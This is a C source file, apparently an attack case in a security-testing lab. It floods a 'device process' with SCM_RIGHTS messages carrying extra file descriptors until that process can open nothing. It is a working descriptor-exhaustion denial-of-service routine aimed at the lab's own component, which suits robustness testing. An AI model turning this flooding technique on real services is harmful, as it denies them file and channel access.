/* Tries to use up the descriptors of the device process: each note carries two, where one is expected.
 * Gains a device process that can open nothing: no channel, no record. */
#include "parts/wire.h"

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    const w_note note = {.kind = W_OPEN};
    const int files[3] = {0, 1, 2};
    for (int i = 0; i < 3000; i++) {
        union {
            char bytes[CMSG_SPACE(sizeof files)];
            struct cmsghdr aligned;
        } control = {.bytes = {0}};
        const size_t count = i == 2999 ? 3 : 2;
        struct iovec part = {(void *)&note, sizeof note};
        struct msghdr message = {
            .msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(count * sizeof *files);
        memcpy(CMSG_DATA(header), files, count * sizeof *files);
        message.msg_controllen = CMSG_SPACE(count * sizeof *files);
        if (sendmsg(w_socket(), &message, MSG_NOSIGNAL) < 0) break;
    }
    usleep(100000);
    return LAB_SUCCESS;
}
